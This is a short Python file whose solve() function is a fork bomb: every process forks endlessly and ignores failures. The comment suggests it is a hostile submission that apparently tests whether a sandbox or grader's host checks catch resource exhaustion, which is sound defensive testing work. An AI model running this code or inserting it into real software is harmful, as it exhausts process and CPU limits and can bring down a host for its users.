# Attacks the process limit and the CPU: the classic exponential fork bomb, every process forking
# forever (and ignoring its failures). It never returns: only the host checks can see it win.
import os


def solve():
    while True:
        try:
            os.fork()
        except OSError:
            pass
